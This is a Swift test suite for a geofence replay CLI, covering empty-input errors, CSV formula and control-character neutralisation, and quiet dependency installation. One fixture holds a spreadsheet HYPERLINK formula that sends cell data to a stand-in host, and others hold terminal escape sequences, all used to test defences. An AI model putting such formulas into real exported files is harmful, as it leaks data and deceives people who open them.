import Foundation
import GeofenceTestSupport
import Testing

/// A replay that reads nothing usable says so and exits 65; CSV output neutralises formulas.
@Suite(.waitsOnChildProcesses) struct EmptyInputAndCSVOutputTests {
  @Test func noGeofenceAtAllIsADataError() throws {
    let r = try CLI.run(["replay", "--regions", "/dev/null", "/dev/null"])
    #expect(r.status == 65)
    #expect(r.stdout.isEmpty)
    #expect(r.stderr.contains("geofence replay: /dev/null: the file is empty"))
    #expect(r.stderr.contains("no geofence loaded from /dev/null (0 rejected); nothing to replay"))
  }

  @Test func aTrackWithoutUsableFixIsADataError() throws {
    let dir = try CLI.scratch("nofix")
    let regions = dir.appendingPathComponent("r.csv")
    try "id,latitude,longitude,radius\na,46.5,6.6,100\n".write(
      to: regions, atomically: true, encoding: .utf8)
    let bad = dir.appendingPathComponent("bad.csv")
    try "time,lat,lon\n1764478800,0x2F.6,6.6\n1764478801,inf,6.6\n".write(
      to: bad, atomically: true, encoding: .utf8)
    let good = dir.appendingPathComponent("good.csv")
    try "time,lat,lon\n1764478800,46.5,6.6\n".write(to: good, atomically: true, encoding: .utf8)
    let r = try CLI.run(["replay", "--regions", regions.path, bad.path, good.path])
    #expect(r.status == 65)
    #expect(r.stderr.contains("geofence replay: \(bad.path): no usable fix read (2 rows skipped)"))
    // The good file is still replayed: one enter.
    #expect(CLI.lines(r.stdout).count == 1)
    let alone = try CLI.run(["replay", "--regions", regions.path, good.path])
    #expect(alone.status == 0)
  }

  @Test func csvOutputNeutralisesFormulasButNotNumbers() throws {
    let dir = try CLI.scratch("csvinjection")
    let regions = dir.appendingPathComponent("r.csv")
    try """
    id,latitude,longitude,radius,name
    @cmd,-33.9,-70.6,500,"=HYPERLINK(""http://x.test/?""&A1,""open"")"
    """.write(to: regions, atomically: true, encoding: .utf8)
    let track = dir.appendingPathComponent("t.csv")
    try "time,lat,lon,device\n1764478800,-33.9,-70.6,+1\n".write(
      to: track, atomically: true, encoding: .utf8)
    let r = try CLI.run(["replay", "--format", "csv", "--regions", regions.path, track.path])
    #expect(r.status == 0)
    let rows = CLI.lines(r.stdout)
    #expect(rows.count == 2)
    let row = rows[1]
    #expect(row.contains(#","'@cmd","'=HYPERLINK(""http://x.test/?""&A1,""open"")","#))
    #expect(row.contains(#","'+1","#))
    // Numbers keep their sign.
    #expect(row.contains(",-33.9,-70.6,"))
  }

  /// A name's control characters (a terminal's escape, a bell) reach CSV output as U+FFFD;
  /// the JSON Lines output keeps them, escaped.
  @Test func csvOutputReplacesControlCharacters() throws {
    let dir = try CLI.scratch("csvcontrol")
    let regions = dir.appendingPathComponent("r.csv")
    try "id,latitude,longitude,radius,name\nz,-33.9,-70.6,500,N\u{1B}[31mX\u{7}\tY\n".write(
      to: regions, atomically: true, encoding: .utf8)
    let track = dir.appendingPathComponent("t.csv")
    try "time,lat,lon,device\n1764478800,-33.9,-70.6,d\n".write(
      to: track, atomically: true, encoding: .utf8)
    let csv = try CLI.run(["replay", "--format", "csv", "--regions", regions.path, track.path])
    #expect(csv.status == 0, "\(csv.stderr)")
    #expect(csv.stdout.contains(",N\u{FFFD}[31mX\u{FFFD}\tY,"), "\(csv.stdout)")
    #expect(!csv.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 7 })
    let json = try CLI.run(["replay", "--regions", regions.path, track.path])
    #expect(json.stdout.contains(#""geofence_name":"N\u001b[31mX\u0007\tY""#), "\(json.stdout)")
  }
}

/// `tools/install-deps` writes nothing to standard output, even when apt-get and pip talk.
@Suite(.waitsOnChildProcesses, .enabled(if: getuid() == 0)) struct InstallDepsOutputTests {
  @Test func packageManagerOutputGoesToStandardError() throws {
    let dir = try CLI.scratch("installdeps")
    func fake(_ name: String, _ body: String) throws {
      let url = dir.appendingPathComponent(name)
      try ("#!/bin/sh\n" + body).write(to: url, atomically: true, encoding: .utf8)
      try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: url.path)
    }
    try fake("dpkg", "exit 1\n")  // nothing installed
    try fake("apt-get", "echo \"apt-get $*\"\n")
    try fake(
      "python3",
      """
      if [ "$1" = "-m" ] && [ "$3" = "install" ]; then echo "pip installed"; exit 0; fi
      if [ "$1" = "-" ]; then cat >/dev/null; exit 1; fi
      exit 0

      """)
    let process = Process()
    process.executableURL = TestPaths.packageRoot.appendingPathComponent("tools/install-deps")
    var environment = ProcessInfo.processInfo.environment
    environment["PATH"] = dir.path + ":/usr/bin:/bin"
    process.environment = environment
    let out = Pipe()
    let err = Pipe()
    process.standardOutput = out
    process.standardError = err
    try process.run()
    let outText = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
    let errText = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
    process.waitUntilExit()
    #expect(process.terminationStatus == 0)
    #expect(outText == "")
    #expect(errText.contains("apt-get update"))
    #expect(errText.contains("apt-get install -y libgeos-dev libsqlite3-dev"))
    #expect(errText.contains(" pkg-config"))
    #expect(errText.contains("pip installed"))
  }
}
